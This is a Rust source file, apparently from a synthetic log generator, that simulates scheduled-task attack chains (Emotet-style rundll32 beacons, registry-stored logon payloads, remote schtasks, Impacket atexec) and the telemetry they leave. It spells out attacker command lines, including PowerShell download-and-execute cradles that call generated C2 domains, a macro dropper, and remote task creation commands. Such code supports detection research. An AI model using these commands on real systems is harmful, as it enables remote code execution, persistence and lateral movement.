//! The injected attack chains (Wizard Spider tradecraft around T1053.005): where and when each
//! lands, the random names it uses, and the telemetry it leaves, day by day.

use crate::Scenario;
use crate::emit::{Auth, Cx};
use crate::host::{Fleet, Integrity, Proc, Session, TAG_SCENARIO};
use crate::record::{DAY, HOUR, MIN, MS, SEC, base64_utf16le, xml_time};
use crate::rng::{ALNUM, LETTERS, LOWER, Rng, syllables};
use crate::task::{Action, Fired, Principal, Settings, TaskDef, Trigger};

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const SMA: &str = "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\a6b1b1ef8ff9e0bbd3a0d1d6a3e5a2d2\\System.Management.Automation.ni.dll";
const RUNDLL32: &str = "C:\\Windows\\System32\\rundll32.exe";

/// One planned chain.
#[derive(Debug, Clone)]
pub struct Instance {
    pub label: u32,
    pub scenario: Scenario,
    pub host: usize,
    /// The host the attacker works from (remote creation), when it is in the fleet.
    pub source: Option<usize>,
    pub t0: i64,
    pub task: TaskDef,
    pub c2: Vec<String>,
    /// Scenario-specific names: binary or DLL path, export, registry key and value, ...
    pub bin: String,
    pub extra: String,
    pub admin: usize,
    pub src_ip: String,
    pub salt: u64,
}

fn c2_domain(r: &mut Rng) -> String {
    let tld = *r.pick(&["com", "net", "top", "xyz", "info", "biz", "online"]);
    let n = 3 + r.below(2) as usize;
    format!("{}.{tld}", syllables(r, n))
}

fn capitalized(r: &mut Rng, n: usize) -> String {
    let w = r.word(n, LOWER);
    let mut c = w.chars();
    c.next().map(|f| f.to_ascii_uppercase().to_string() + c.as_str()).unwrap_or_default()
}

fn base_task(name: String, trigger: Trigger, principal: Principal, action: Action, r: &mut Rng) -> TaskDef {
    TaskDef {
        name,
        id: r.guid().to_ascii_uppercase(),
        version: "1.2",
        author: None,
        description: None,
        date: None,
        uri: true,
        trigger,
        principal,
        settings: Settings::schtasks(),
        action,
        context: "Author",
    }
}

fn system_principal(level: &'static str) -> Principal {
    Principal { id: "Author", user_id: Some("S-1-5-18".into()), group_id: None, logon_type: None, run_level: Some(level) }
}

/// A day with an owner session, and that session; `later` asks for a further session after it.
fn pick_session(fleet: &Fleet, host: usize, r: &mut Rng, later: bool) -> Option<(u32, Session)> {
    let h = &fleet.hosts[host];
    let days: Vec<u32> = (0..fleet.days).filter(|&d| fleet.session(h, d).is_some()).collect();
    let usable: Vec<u32> = if later && days.len() > 1 { days[..days.len() - 1].to_vec() } else { days };
    if usable.is_empty() {
        return None;
    }
    // Prefer the first two thirds so that recurring runs have room.
    let limit = (usable.len() * 2).div_ceil(3).max(1);
    let d = usable[r.below(limit as u64) as usize];
    fleet.session(h, d).map(|s| (d, s))
}

/// Places every requested scenario on a host and time, and draws its names.
pub fn plan(fleet: &Fleet, scenarios: &[Scenario]) -> Vec<Instance> {
    let mut r = Rng::derive(fleet.seed, &[TAG_SCENARIO]);
    let workstations: Vec<usize> = fleet.hosts.iter().filter(|h| h.is_workstation()).map(|h| h.index).collect();
    let mut out = Vec::new();
    for &scenario in scenarios {
        let label = out.len() as u32;
        let salt = r.next_u64();
        let admin = r.below(fleet.admins.len() as u64) as usize;
        let any = r.below(fleet.hosts.len() as u64) as usize;
        // A day and an hour that keep the whole chain inside that day.
        let day_time = |r: &mut Rng, lo_h: i64, hi_h: i64, last_ok: bool| {
            let span = if last_ok || fleet.days == 1 { fleet.days } else { fleet.days - 1 };
            let d = r.below(span.max(1) as u64) as u32;
            fleet.day_start(d) + r.range(lo_h * HOUR, hi_h * HOUR) + r.range(0, 9_999_999)
        };
        let mut inst = Instance {
            label,
            scenario,
            host: any,
            source: None,
            t0: 0,
            task: base_task(
                String::new(),
                Trigger::Boot,
                system_principal("LeastPrivilege"),
                Action::Com { clsid: String::new(), data: None },
                &mut r,
            ),
            c2: Vec::new(),
            bin: String::new(),
            extra: String::new(),
            admin,
            src_ip: String::new(),
            salt,
        };
        match scenario {
            Scenario::WriteupDailySystemTask => {
                let prefix = *r.pick(&[
                    "SystemHealthMonitorService",
                    "WindowsDefenderSignatureRefresh",
                    "NetFrameworkNgenQueueProcessor",
                    "DeviceCensusTelemetryCollector",
                ]);
                let name = format!("\\{prefix}_{}", r.hex(16));
                let bin = format!("C:\\Windows\\Temp\\{}.exe", r.word(10, ALNUM));
                inst.t0 = if fleet.days == 1 { fleet.day_start(0) + r.range(40 * MIN, 150 * MIN) } else { day_time(&mut r, 4, 22, false) };
                let when = inst.t0 + 20 * SEC;
                let first_day = when - when.rem_euclid(DAY);
                inst.task = base_task(
                    name,
                    Trigger::Daily { start: xml_time(first_day + 3 * HOUR, false), random_delay: None },
                    system_principal("LeastPrivilege"),
                    Action::Exec { command: bin.clone(), args: None, workdir: None },
                    &mut r,
                );
                inst.task.author = Some(format!("{}\\{}$", crate::host::DOMAIN, fleet.hosts[any].short));
                inst.task.date = Some(when);
                inst.c2 = vec![c2_domain(&mut r)];
                inst.extra = format!("/{}/{}", r.word(6, LOWER), r.word(10, ALNUM));
                inst.bin = bin;
                let other = (any + 1 + r.below(fleet.hosts.len().max(2) as u64 - 1) as usize) % fleet.hosts.len();
                inst.src_ip = if other == any { "10.20.9.77".into() } else { fleet.hosts[other].ip.clone() };
            }
            Scenario::EmotetRundll32Every10Min | Scenario::OnlogonRegistryPayload => {
                let onlogon = scenario == Scenario::OnlogonRegistryPayload;
                let mut placed = None;
                for _ in 0..16 {
                    if workstations.is_empty() {
                        break;
                    }
                    let h = workstations[r.below(workstations.len() as u64) as usize];
                    if let Some((_, s)) = pick_session(fleet, h, &mut r, onlogon) {
                        let span = ((s.end - s.explorer_t) / 2).max(20 * MIN);
                        placed = Some((h, s.explorer_t + 10 * MIN + r.range(0, span)));
                        break;
                    }
                }
                let Some((h, t0)) = placed else { continue };
                inst.host = h;
                inst.t0 = t0;
                let user = &fleet.users[fleet.hosts[h].user.unwrap_or(0)];
                if onlogon {
                    let key = format!("Software\\{}", capitalized(&mut r, 7));
                    let value = r.word(5, LOWER);
                    let name = format!(
                        "\\{}{}",
                        r.pick(&["OneDriveSyncHelper", "UserProfileRefresh", "TeamsPresenceUpdater", "PrinterMappingSync"]),
                        r.hex(4).to_ascii_uppercase()
                    );
                    let args = format!(
                        "-nop -w hidden -c \"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKCU:\\{key}).{value})))\""
                    );
                    let principal = Principal {
                        id: "Author",
                        user_id: Some(user.qualified()),
                        group_id: None,
                        logon_type: Some("InteractiveToken"),
                        run_level: Some("LeastPrivilege"),
                    };
                    inst.task = base_task(
                        name,
                        Trigger::Logon { user: Some(user.qualified()) },
                        principal,
                        Action::Exec { command: "powershell".into(), args: Some(args), workdir: None },
                        &mut r,
                    );
                    inst.c2 = vec![c2_domain(&mut r)];
                    inst.bin = key;
                    inst.extra = value;
                } else {
                    let n = 6 + r.below(5) as usize;
                    let dir = r.word(n, LETTERS);
                    let n = 5 + r.below(5) as usize;
                    let dll = format!("C:\\ProgramData\\{dir}\\{}.dll", r.word(n, LOWER));
                    let export = if r.chance(0.5) { "DllRegisterServer".to_string() } else { capitalized(&mut r, 8) };
                    let n = 8 + r.below(5) as usize;
                    let name = format!("\\{}", r.word(n, LETTERS));
                    let principal = Principal {
                        id: "Author",
                        user_id: Some(user.sid.clone()),
                        group_id: None,
                        logon_type: Some("InteractiveToken"),
                        run_level: Some("LeastPrivilege"),
                    };
                    let start = xml_time(t0 + 2 * MIN, false);
                    let trigger = Trigger::Repeat { start, interval: "PT10M", duration: None };
                    let action = Action::Exec {
                        command: "C:\\Windows\\system32\\rundll32.exe".into(),
                        args: Some(format!("{dll},{export}")),
                        workdir: None,
                    };
                    inst.task = base_task(name, trigger, principal, action, &mut r);
                    inst.task.settings = Settings::relaxed("PT0S");
                    inst.c2 = vec![c2_domain(&mut r), c2_domain(&mut r)];
                    inst.bin = dll;
                    inst.extra = export;
                }
            }
            Scenario::RemoteSchtasksRunDelete => {
                inst.t0 = day_time(&mut r, 1, 23, true);
                if fleet.hosts.len() > 1 {
                    let s = (any + 1 + r.below(fleet.hosts.len() as u64 - 1) as usize) % fleet.hosts.len();
                    inst.source = Some(s);
                    inst.src_ip = fleet.hosts[s].ip.clone();
                } else {
                    inst.src_ip = format!("10.20.9.{}", r.range(100, 200));
                }
                let name = format!(
                    "\\{}{}",
                    r.pick(&["WinUpdateCheck", "SysHealthCheck", "OfficeCacheSync", "DriverStoreRefresh"]),
                    r.range(10, 99)
                );
                let bin = format!("C:\\ProgramData\\{}.exe", r.word(8, LOWER));
                let st = inst.t0 + HOUR;
                inst.task = base_task(
                    name,
                    Trigger::Once { start: xml_time(st - st.rem_euclid(MIN), false) },
                    system_principal("LeastPrivilege"),
                    Action::Exec { command: bin.clone(), args: None, workdir: None },
                    &mut r,
                );
                inst.task.author = Some(fleet.admins[admin].qualified());
                inst.task.date = Some(inst.t0);
                inst.c2 = vec![c2_domain(&mut r)];
                inst.bin = bin;
            }
            Scenario::AtexecHidden => {
                inst.t0 = day_time(&mut r, 1, 23, true);
                inst.src_ip = format!("10.20.250.{}", r.range(10, 250));
                let name = r.word(8, LETTERS);
                let command = *r.pick(&["whoami", "ipconfig /all", "tasklist", "systeminfo", "hostname", "net localgroup administrators"]);
                let principal = Principal {
                    id: "LocalSystem",
                    user_id: Some("S-1-5-18".into()),
                    group_id: None,
                    logon_type: Some("InteractiveToken"),
                    run_level: Some("HighestAvailable"),
                };
                let args = format!("/C {command} > %windir%\\Temp\\{name}.tmp 2>&1");
                inst.task = base_task(
                    format!("\\{name}"),
                    Trigger::Daily { start: "2015-07-15T20:35:13.2757294".into(), random_delay: None },
                    principal,
                    Action::Exec { command: "cmd.exe".into(), args: Some(args), workdir: None },
                    &mut r,
                );
                inst.task.uri = false;
                inst.task.context = "LocalSystem";
                inst.task.settings = Settings {
                    hidden: true,
                    enabled: true,
                    start_when_available: false,
                    on_batteries: true,
                    idle_wait: false,
                    exec_limit: "P3D",
                    priority: 7,
                };
                inst.bin = format!("C:\\Windows\\Temp\\{name}.tmp");
                inst.extra = command.to_string();
            }
        }
        out.push(inst);
    }
    out
}

/// Emits the part of `inst` that falls on `day` on the host `cx` is generating.
pub fn emit(cx: &mut Cx, inst: &Instance, day: u32) {
    let d0 = cx.fleet.day_start(day);
    let on_target = cx.host.index == inst.host;
    let creation_day = inst.t0 >= d0 && inst.t0 < d0 + DAY;
    match inst.scenario {
        Scenario::WriteupDailySystemTask if on_target => {
            if creation_day {
                writeup_create(cx, inst);
            }
            let t = d0 + 3 * HOUR + cx.rng.range(0, 1500 * MS);
            if t > inst.t0 + MIN {
                writeup_run(cx, inst, t);
            }
        }
        Scenario::EmotetRundll32Every10Min if on_target => emotet(cx, inst, day, creation_day),
        Scenario::OnlogonRegistryPayload if on_target => onlogon(cx, inst, day, creation_day),
        Scenario::RemoteSchtasksRunDelete if creation_day && (on_target || inst.source == Some(cx.host.index)) => {
            remote(cx, inst, on_target)
        }
        Scenario::AtexecHidden if on_target && creation_day => atexec(cx, inst),
        _ => {}
    }
}

fn writeup_create(cx: &mut Cx, inst: &Instance) {
    let fleet = cx.fleet;
    let host = cx.host;
    let t0 = inst.t0;
    let mut r = cx.rng.clone();
    let net = fleet.admin_acct(host, inst.admin, t0, &mut r, Integrity::High);
    cx.rng = r;
    // The binary arrives over ADMIN$ with stolen admin credentials (a network logon, no
    // interactive one), then a SYSTEM shell registers the task.
    cx.logon(t0, 3, &net, &inst.src_ip, Auth::Kerberos, true);
    let file = inst.bin.trim_start_matches("C:\\Windows\\");
    cx.share_access(t0 + 40 * MS, &net, &inst.src_ip, "\\\\*\\ADMIN$", "\\??\\C:\\Windows", file, 0x2);
    cx.file_create(t0 + 600 * MS, &host.system_process(), &inst.bin);
    let t1 = t0 + cx.rng.range(5, 15) * SEC;
    let create = format!(
        "schtasks /create /tn \"{}\" /tr \"{}\" /sc daily /st 03:00 /ru SYSTEM /f",
        inst.task.name.trim_start_matches('\\'),
        inst.bin
    );
    let system = host.system.clone();
    let cmd = cx.spawn(
        t1,
        &host.services.clone(),
        "C:\\Windows\\System32\\cmd.exe",
        &format!("C:\\Windows\\system32\\cmd.exe /c {create}"),
        &system,
        0,
    );
    cx.spawn(t1 + 70 * MS, &cmd, "C:\\Windows\\System32\\schtasks.exe", &create.replacen("schtasks ", "schtasks  ", 1), &system, 0);
    cx.register_task(inst.t0 + 20 * SEC, &inst.task, &system);
}

fn downloader(domain: &str, path: &str) -> String {
    format!("IEX(New-Object Net.WebClient).DownloadString('http://{domain}{path}')")
}

fn writeup_run(cx: &mut Cx, inst: &Instance, t: i64) {
    let system = cx.host.system.clone();
    let run = cx.start_run(t, &inst.task, Fired::Time, &system, None, inst.salt);
    let Some(p) = run.proc.clone() else { return };
    let domain = &inst.c2[0];
    let script = downloader(domain, &inst.extra);
    let t1 = t + cx.rng.range(1000, 3000) * MS;
    let ps = cx.spawn(t1, &p, POWERSHELL, &format!("powershell.exe -nop -w hidden -enc {}", base64_utf16le(&script)), &system, 0);
    cx.image_load(t1 + 150 * MS, &ps, SMA, true, 0);
    cx.script_block(t1 + 900 * MS, &ps, &script, "", true);
    let ip = cx.dns(t1 + 1200 * MS, &ps, domain);
    cx.connect(t1 + 1400 * MS, &ps, &ip, 80, "-");
    let stage = format!(
        "$h = $env:COMPUTERNAME\n$r = (New-Object Net.WebClient).DownloadString('http://{domain}/c?h=' + $h)\nif ($r) {{ IEX $r }}"
    );
    cx.script_block(t1 + 2600 * MS, &ps, &stage, "", true);
    cx.connect(t1 + 2900 * MS, &ps, &ip, 80, "-");
    let end = t1 + cx.rng.range(5, 30) * SEC;
    cx.finish_run(end, &inst.task, &run, &system, 0);
}

/// The k-th beacon of the Emotet-style task: every ten minutes, each run within ±15 s (±5% of
/// the interval) of its slot.
fn beacon_time(cx: &Cx, inst: &Instance, k: i64) -> i64 {
    let first = inst.t0 + 2 * MIN + 10 * MIN;
    let mut r = Rng::derive(cx.fleet.seed, &[TAG_SCENARIO, inst.label as u64, 0xb1, k as u64]);
    first + k * 10 * MIN + r.range(-15 * SEC, 15 * SEC)
}

fn emotet(cx: &mut Cx, inst: &Instance, day: u32, creation_day: bool) {
    let fleet = cx.fleet;
    let Some(s) = fleet.session(cx.host, day) else { return };
    let acct = s.acct.clone();
    let user = acct.account.name.clone();
    if creation_day {
        let t0 = inst.t0;
        let doc = format!("Invoice_{}.doc", cx.rng.range(10_000, 99_999));
        let cache = format!(
            "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}",
            cx.rng.word(8, ALNUM).to_ascii_uppercase()
        );
        let word_img = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        let word = cx.spawn(t0, &s.explorer, word_img, &format!("\"{word_img}\" /n \"{cache}\\{doc}\" /o \"\""), &acct, 0);
        let dropper = &inst.c2[1];
        let (dir, _) = inst.bin.rsplit_once('\\').unwrap_or((&inst.bin, ""));
        let cradle = format!(
            "$d='{dir}';New-Item -ItemType Directory -Force -Path $d|Out-Null;(New-Object Net.WebClient).DownloadFile('http://{dropper}/{}','{}');Start-Process rundll32.exe -ArgumentList '{},{}'",
            cx.rng.word(6, ALNUM),
            inst.bin,
            inst.bin,
            inst.extra
        );
        let t1 = t0 + cx.rng.range(8, 20) * SEC;
        let ps = cx.spawn(t1, &word, POWERSHELL, &format!("powershell -w hidden -enc {}", base64_utf16le(&cradle)), &acct, 0);
        cx.image_load(t1 + 150 * MS, &ps, SMA, true, 0);
        cx.script_block(t1 + 800 * MS, &ps, &cradle, "", true);
        let ip = cx.dns(t1 + SEC, &ps, dropper);
        cx.connect(t1 + 1100 * MS, &ps, &ip, 80, "-");
        cx.file_create(t1 + 2500 * MS, &ps, &inst.bin);
        let t2 = t1 + 3 * SEC;
        let rd = cx.spawn(t2, &ps, RUNDLL32, &format!("\"C:\\Windows\\system32\\rundll32.exe\" {},{}", inst.bin, inst.extra), &acct, 0);
        cx.image_load(t2 + 40 * MS, &rd, &inst.bin, false, inst.salt);
        let ip = cx.dns(t2 + 2 * SEC, &rd, &inst.c2[0]);
        cx.connect(t2 + 2200 * MS, &rd, &ip, 8080, "-");
        let at = inst.t0 + 2 * MIN - cx.rng.range(10, 40) * SEC;
        cx.register_task(at, &inst.task, &acct);
    }
    let d0 = fleet.day_start(day);
    let first = inst.t0 + 12 * MIN;
    let k_lo = ((s.start.max(d0) - first) / (10 * MIN) - 1).max(0);
    let k_hi = (s.end - first) / (10 * MIN) + 1;
    for k in k_lo..=k_hi {
        let t = beacon_time(cx, inst, k);
        if t < s.start.max(first - MIN) || t > s.end || t < d0 || t >= d0 + DAY {
            continue;
        }
        let run = cx.start_run(t, &inst.task, Fired::Time, &acct, None, 0);
        let Some(p) = run.proc.clone() else { continue };
        cx.image_load(t + 60 * MS, &p, &inst.bin, false, inst.salt);
        let at = t + cx.rng.range(200, 600) * MS;
        let ip = cx.dns(at, &p, &inst.c2[0]);
        cx.connect(t + 700 * MS, &p, &ip, 8080, "-");
        let end = t + cx.rng.range(2, 6) * SEC;
        cx.finish_run(end, &inst.task, &run, &acct, 0);
    }
}

fn onlogon(cx: &mut Cx, inst: &Instance, day: u32, creation_day: bool) {
    let fleet = cx.fleet;
    let Some(s) = fleet.session(cx.host, day) else { return };
    let acct = s.acct.clone();
    let user = acct.account.name.clone();
    let payload = format!(
        "$u='https://{}/{}';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');IEX $w.DownloadString($u)",
        inst.c2[0],
        &inst.task.id.trim_matches(|c| c == '{' || c == '}').to_ascii_lowercase().replace('-', "")[..12]
    );
    let encoded = base64_utf16le(&payload);
    if creation_day {
        let t0 = inst.t0;
        let lure = format!(
            "C:\\Users\\{user}\\Downloads\\{}.ps1",
            cx.rng.pick(&["invoice_viewer", "scan_reader_setup", "hr_form_update", "vpn_profile_fix"])
        );
        let ps = cx.spawn(t0, &s.explorer, POWERSHELL, &format!("\"{POWERSHELL}\" -ExecutionPolicy Bypass -File \"{lure}\""), &acct, 0);
        cx.image_load(t0 + 150 * MS, &ps, SMA, true, 0);
        let crate::task::Action::Exec { args, .. } = &inst.task.action else { return };
        let args = args.clone().unwrap_or_default();
        let stager = format!(
            "$k = 'HKCU:\\{key}'\nNew-Item -Path $k -Force | Out-Null\nSet-ItemProperty -Path $k -Name '{value}' -Value '{encoded}'\n$a = New-ScheduledTaskAction -Execute 'powershell' -Argument '{args}'\n$t = New-ScheduledTaskTrigger -AtLogOn -User \"$env:USERDOMAIN\\$env:USERNAME\"\nRegister-ScheduledTask -TaskName '{name}' -Action $a -Trigger $t -Force | Out-Null",
            key = inst.bin,
            value = inst.extra,
            name = inst.task.name.trim_start_matches('\\'),
        );
        cx.script_block(t0 + SEC, &ps, &stager, &lure, true);
        cx.reg_set(t0 + 1300 * MS, &ps, &format!("HKU\\{}\\{}\\{}", acct.account.sid, inst.bin, inst.extra), &encoded);
        cx.register_task(t0 + 1800 * MS, &inst.task, &acct);
    } else if s.start > inst.t0 {
        let t = s.explorer_t + cx.rng.range(15, 60) * SEC;
        let run = cx.start_run(t, &inst.task, Fired::Logon, &acct, None, 0);
        let Some(p) = run.proc.clone() else { return };
        cx.image_load(t + 150 * MS, &p, SMA, true, 0);
        let reader =
            format!("iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp HKCU:\\{}).{})))", inst.bin, inst.extra);
        cx.script_block(t + SEC, &p, &reader, "", true);
        cx.script_block(t + 1300 * MS, &p, &payload, "", true);
        let ip = cx.dns(t + 1600 * MS, &p, &inst.c2[0]);
        cx.connect(t + 1800 * MS, &p, &ip, 443, "-");
        let end = t + cx.rng.range(5, 20) * SEC;
        cx.finish_run(end, &inst.task, &run, &acct, 0);
    }
}

/// Lateral movement with schtasks against another host: create, run on demand, delete, each over
/// its own network logon and ATSVC pipe access on the target.
fn remote(cx: &mut Cx, inst: &Instance, on_target: bool) {
    let fleet = cx.fleet;
    let host = cx.host;
    let t0 = inst.t0;
    let target = &fleet.hosts[inst.host];
    let t_copy = t0 - cx.rng.range(8, 15) * SEC;
    let t_run = t0 + cx.rng.range(2, 10) * SEC;
    let t_del = t_run + cx.rng.range(3, 15) * SEC;
    let name = inst.task.name.trim_start_matches('\\');
    let file = inst.bin.rsplit('\\').next().unwrap_or(&inst.bin);
    if !on_target {
        // The attacker's side: a shell under stolen admin credentials, started by an implant.
        let mut r = cx.rng.clone();
        let acct = fleet.admin_acct(host, inst.admin, t0 - 30 * MIN, &mut r, Integrity::High);
        let implant = Proc {
            guid: crate::host::proc_guid(host.machine, t0 - 2 * HOUR, &mut r),
            pid: r.pid(),
            image: RUNDLL32.into(),
            cmd: format!("\"C:\\Windows\\system32\\rundll32.exe\" C:\\Users\\Public\\{}.dat,Start", r.word(6, LOWER)),
            acct: acct.clone(),
        };
        cx.rng = r;
        let shell = cx.spawn(t_copy - 20 * SEC, &implant, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe", &acct, 0);
        let cmd = "C:\\Windows\\System32\\cmd.exe";
        cx.spawn(
            t_copy - 300 * MS,
            &shell,
            cmd,
            &format!("cmd.exe /c copy {} \\\\{}\\C$\\ProgramData\\{file}", inst.bin, target.short),
            &acct,
            0,
        );
        cx.connect(t_copy - 100 * MS, &host.system_process(), &target.ip, 445, &target.fqdn);
        let st = "C:\\Windows\\System32\\schtasks.exe";
        let start = match &inst.task.trigger {
            Trigger::Once { start } => start.get(11..16).unwrap_or("00:00").to_string(),
            _ => "00:00".into(),
        };
        let create =
            format!("schtasks  /create /s {} /tn \"{name}\" /tr \"{}\" /ru SYSTEM /sc once /st {start} /f", target.short, inst.bin);
        cx.spawn(t0 - 200 * MS, &shell, st, &create, &acct, 0);
        cx.spawn(t_run - 200 * MS, &shell, st, &format!("schtasks  /run /s {} /tn \"{name}\"", target.short), &acct, 0);
        cx.spawn(t_del - 200 * MS, &shell, st, &format!("schtasks  /delete /s {} /tn \"{name}\" /f", target.short), &acct, 0);
        return;
    }
    let logon = |cx: &mut Cx, t: i64| {
        let mut r = cx.rng.clone();
        let acct = fleet.admin_acct(host, inst.admin, t, &mut r, Integrity::High);
        cx.rng = r;
        cx.logon(t, 3, &acct, &inst.src_ip, Auth::Kerberos, true);
        acct
    };
    let a0 = logon(cx, t_copy);
    cx.share_access(t_copy + 30 * MS, &a0, &inst.src_ip, "\\\\*\\C$", "\\??\\C:\\", &format!("ProgramData\\{file}"), 0x2);
    cx.file_create(t_copy + 400 * MS, &host.system_process(), &inst.bin);
    let a1 = logon(cx, t0);
    cx.share_access(t0 + 20 * MS, &a1, &inst.src_ip, "\\\\*\\IPC$", "", "atsvc", 0x3);
    cx.register_task(t0 + 150 * MS, &inst.task, &a1);
    let a2 = logon(cx, t_run);
    cx.share_access(t_run + 20 * MS, &a2, &inst.src_ip, "\\\\*\\IPC$", "", "atsvc", 0x3);
    let system = host.system.clone();
    let run = cx.start_run(t_run + 120 * MS, &inst.task, Fired::Demand, &system, Some(&a2), inst.salt);
    if let Some(p) = run.proc.clone() {
        let ip = cx.dns(t_run + 1500 * MS, &p, &inst.c2[0]);
        cx.connect(t_run + 1700 * MS, &p, &ip, 443, "-");
        let mut t = t_run + 1700 * MS;
        for _ in 0..cx.rng.range(3, 6) {
            t += cx.rng.range(50, 70) * SEC;
            cx.connect(t, &p, &ip, 443, "-");
        }
    }
    let a3 = logon(cx, t_del);
    cx.share_access(t_del + 20 * MS, &a3, &inst.src_ip, "\\\\*\\IPC$", "", "atsvc", 0x3);
    cx.delete_task(t_del + 150 * MS, &inst.task, &a3);
}

/// Impacket atexec: NTLM network logon, ATSVC, a hidden SYSTEM task running `cmd.exe /C ... >
/// %windir%\Temp\<task>.tmp 2>&1`, run at once, deleted, output read back over ADMIN$.
fn atexec(cx: &mut Cx, inst: &Instance) {
    let fleet = cx.fleet;
    let host = cx.host;
    let t0 = inst.t0;
    let mut r = cx.rng.clone();
    let acct = fleet.admin_acct(host, inst.admin, t0, &mut r, Integrity::High);
    cx.rng = r;
    cx.logon(t0, 3, &acct, &inst.src_ip, Auth::Ntlm, true);
    cx.share_access(t0 + 25 * MS, &acct, &inst.src_ip, "\\\\*\\IPC$", "", "atsvc", 0x3);
    cx.register_task(t0 + 180 * MS, &inst.task, &acct);
    let system = host.system.clone();
    let t1 = t0 + cx.rng.range(300, 700) * MS;
    let run = cx.start_run(t1, &inst.task, Fired::Demand, &system, Some(&acct), 0);
    let mut end = t1 + SEC;
    if let Some(cmd) = run.proc.clone() {
        cx.file_create(t1 + 90 * MS, &cmd, &inst.bin);
        let program = inst.extra.split(' ').next().unwrap_or("whoami");
        let image = format!("C:\\Windows\\System32\\{program}.exe");
        cx.spawn(t1 + 120 * MS, &cmd, &image, &inst.extra, &system, 0);
        end = t1 + cx.rng.range(900, 2500) * MS;
    }
    cx.finish_run(end, &inst.task, &run, &system, 0);
    let t_del = end + cx.rng.range(500, 1500) * MS;
    cx.delete_task(t_del, &inst.task, &acct);
    let name = inst.bin.trim_start_matches("C:\\Windows\\");
    let at = t_del + cx.rng.range(300, 900) * MS;
    cx.share_access(at, &acct, &inst.src_ip, "\\\\*\\ADMIN$", "\\??\\C:\\Windows", name, 0x1);
}
